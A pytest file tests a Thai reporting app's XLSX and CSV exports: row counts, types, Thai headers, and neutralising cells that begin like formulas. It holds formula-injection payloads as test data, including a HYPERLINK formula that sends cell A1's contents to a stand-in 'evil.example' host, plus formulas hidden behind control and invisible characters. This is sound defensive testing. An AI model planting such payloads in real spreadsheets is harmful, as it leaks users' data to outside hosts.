"""Exports read back with openpyxl and csv: every row present, no cell a spreadsheet would run."""
from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from components.outputs import exports
from sheets import contract, figures
from tests.conftest import make_workbook

TODAY = dt.date(2026, 11, 25)
DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&A1,"คลิก")', "+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
SHEETS = ["มาตรการ", "กิจกรรม", "ตัวชี้วัด OIT", "ส่วนราชการ", "ปัญหาข้อมูล"]


@pytest.fixture
def hostile_workbook():
    """Sheet text that starts like a formula in every kind of table, plus a negative number."""
    rows = [(1, text, f"{text} ผล", "", "2023-01-31", "เสร็จแล้ว", 100, text, text, "", "") for text in DANGEROUS]
    return make_workbook(
        measures=[(1, DANGEROUS[0], DANGEROUS[1], ""), (2, "มาตรการสอง", "กองคลัง", "")],
        oit=[("O1", DANGEROUS[2], DANGEROUS[3], "เผยแพร่แล้ว", "", "", "ใช่", DANGEROUS[0])],
        departments={"สำนักปลัดเทศบาล": rows, "กองคลัง": [(2, "กิจกรรม ข", "", "", "", "", -5, "", "", "", "")]},
    )


def read_xlsx(data: bytes) -> dict[str, list[list]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)] for sheet in book.worksheets}


def text_cells(tables: dict[str, list[list]]) -> list[str]:
    return [value for rows in tables.values() for row in rows for value in row if isinstance(value, str)]


def assert_nothing_runs(values: list[str]) -> None:
    for value in values:
        assert not value.startswith(exports.DANGEROUS_PREFIXES), repr(value)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+66 81 234 5678", "'+66 81 234 5678"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'=1"), ("\r=1", "'=1"), ("＝1", "'＝1"),
    ("\x01=HYPERLINK(\"https://x.example\",\"y\")", "'=HYPERLINK(\"https://x.example\",\"y\")"),
    ("\u200b=1", "'=1"), ("\u202e@SUM(A1)", "'@SUM(A1)"), (" +1", "'+1"), ("\x07ปกติ", "ปกติ"),
    ("ปกติ", "ปกติ"), ("a=b", "a=b"), ("", ""), (-5, -5), (-2.5, -2.5), (0, 0), (None, None),
    (dt.date(2023, 1, 31), dt.date(2023, 1, 31)),
])
def test_neutralize(value, expected):
    assert exports.neutralize(value) == expected


def test_xlsx_has_one_sheet_per_table_with_bold_thai_headers(small_workbook):
    book = openpyxl.load_workbook(io.BytesIO(exports.build_export_xlsx(small_workbook, TODAY)))

    assert book.sheetnames == SHEETS
    for sheet, table in zip(book.worksheets, exports.export_tables(small_workbook, TODAY)):
        assert [cell.value for cell in sheet[1]] == table.headers
        assert all(cell.font.b for cell in sheet[1])
        assert sheet.freeze_panes == "A2"


def test_xlsx_holds_every_row_and_the_figures(demo_workbook):
    tables = read_xlsx(exports.build_export_xlsx(demo_workbook, TODAY))

    assert len(tables["กิจกรรม"]) == len(demo_workbook.activities) + 1
    assert len(tables["ตัวชี้วัด OIT"]) == len(demo_workbook.oit_items) + 1
    assert len(tables["ปัญหาข้อมูล"]) == len(demo_workbook.problems) + 1
    measures = figures.measure_rows(demo_workbook, TODAY)
    assert [row[6] for row in tables["มาตรการ"][1:]] == [row.progress_pct for row in measures]
    departments = figures.department_rows(demo_workbook, TODAY)
    assert [row[0] for row in tables["ส่วนราชการ"][1:]] == [row.name for row in departments]
    overdue = sum(row[9] == "ใช่" for row in tables["กิจกรรม"][1:])
    assert overdue == len(figures.overdue_activities(demo_workbook, TODAY))


def test_xlsx_dates_are_dates_and_numbers_numbers(small_workbook):
    sheet = openpyxl.load_workbook(io.BytesIO(exports.build_export_xlsx(small_workbook, TODAY)))["กิจกรรม"]
    due = sheet.cell(row=2, column=7)
    assert due.value == dt.datetime(2023, 1, 31) and due.number_format == exports.DATE_FORMAT
    assert sheet.cell(row=2, column=9).value == 100 and sheet.cell(row=2, column=3).value == 1


def test_xlsx_neutralises_every_dangerous_cell_and_keeps_every_row(hostile_workbook):
    data = exports.build_export_xlsx(hostile_workbook, TODAY)
    tables = read_xlsx(data)

    assert_nothing_runs(text_cells(tables))
    assert len(tables["กิจกรรม"]) == len(hostile_workbook.activities) + 1 == len(DANGEROUS) + 2
    assert tables["มาตรการ"][1][1] == "'" + DANGEROUS[0]
    assert all(row[3].startswith("'") and row[10].startswith("'") for row in tables["กิจกรรม"][1:len(DANGEROUS) + 1])
    assert tables["ตัวชี้วัด OIT"][1][1] == "'" + DANGEROUS[2]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:  # no cell was written as a formula
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)


def test_negative_numbers_stay_numbers_and_negative_text_is_neutralised():
    table = exports.Table("ตาราง", "ตาราง", ["ตัวเลข", "ข้อความ"], [[-5, "-5"], [-2.5, "- รายการย่อย"]])

    rows = read_xlsx(exports.write_xlsx([table]))["ตาราง"]
    assert rows[1:] == [[-5, "'-5"], [-2.5, "'- รายการย่อย"]]
    assert read_csv(exports.write_csv(table))[1:] == [["-5", "'-5"], ["-2.5", "'- รายการย่อย"]]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens Thai as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_is_the_activities_with_every_row_neutralised(hostile_workbook):
    rows = read_csv(exports.build_export_csv(hostile_workbook, TODAY))

    assert rows[0] == exports.activity_table(hostile_workbook, TODAY).headers
    assert len(rows) == len(hostile_workbook.activities) + 1
    assert_nothing_runs([value for row in rows for value in row])
    assert rows[1][6] == "2023-01-31"


def test_csv_zip_holds_one_csv_per_table(hostile_workbook):
    with zipfile.ZipFile(io.BytesIO(exports.build_export_csv_zip(hostile_workbook, TODAY))) as archive:
        names = archive.namelist()
        tables = {name: read_csv(archive.read(name)) for name in names}

    assert names == [f"{table.file_name}.csv" for table in exports.export_tables(hostile_workbook, TODAY)]
    assert len(tables["ITA_กิจกรรม.csv"]) == len(hostile_workbook.activities) + 1
    assert len(tables["ITA_ตัวชี้วัดOIT.csv"]) == len(hostile_workbook.oit_items) + 1
    assert_nothing_runs([value for rows in tables.values() for row in rows for value in row])


def test_problems_are_exported_with_thai_severity():
    workbook = make_workbook(departments={"กองคลัง": [(9, "กิจกรรมของมาตรการที่ไม่มี", "", "", "ไม่ใช่วันที่", "", "",
                                                     "", "", "", "")]})
    assert workbook.problems
    rows = read_xlsx(exports.build_export_xlsx(workbook, TODAY))["ปัญหาข้อมูล"][1:]
    assert len(rows) == len(workbook.problems)
    assert {row[0] for row in rows} <= set(contract.SEVERITY_LABELS.values())


HIDDEN_FORMULA = "\x01=HYPERLINK(\"https://evil.example\",\"คลิก\")"


def test_a_control_character_before_a_formula_never_yields_a_live_formula():
    table = exports.Table("t", "t", ["ข้อความ"], [[HIDDEN_FORMULA], ["\x1f\u200b+1"]])
    book = openpyxl.load_workbook(io.BytesIO(exports.write_xlsx([table])))
    cells = [row[0] for row in book["t"].iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s", "s"]
    assert [cell.value for cell in cells] == ["'" + HIDDEN_FORMULA[1:], "'+1"]
    (csv_row, csv_row2) = read_csv(exports.write_csv(table))[1:]
    assert csv_row == ["'" + HIDDEN_FORMULA[1:]] and csv_row2 == ["'+1"]
